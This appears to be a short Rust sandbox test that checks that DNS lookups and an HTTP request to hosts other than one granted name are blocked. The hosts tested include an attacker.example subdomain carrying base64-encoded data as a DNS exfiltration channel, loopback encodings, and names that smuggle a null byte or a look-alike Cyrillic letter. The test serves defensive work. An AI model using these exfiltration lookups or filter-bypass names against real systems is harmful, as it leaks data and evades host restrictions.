//! Names that carry what was read: each lookup would tell somebody's name server.
use attack::http::get;
use attack::net::lookup;

attack::attack!(|input, journal| {
    journal.works("the granted name", lookup(input[0]));
    for host_name in [
        "c2VjcmV0.attacker.example",
        "attacker.example",
        "x.granted.example",
        "granted.example.attacker.example",
        "localhost",
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "",
        ".",
        "granted.example\0.attacker.example",
        "gr\u{430}nted.example",
        "granted.example/",
        "a b",
        "x.wild.example",
        "wild.example",
    ] {
        journal.held(host_name, lookup(host_name));
    }
    journal.held("by a request", get("c2VjcmV0.attacker.example", "/"));
});
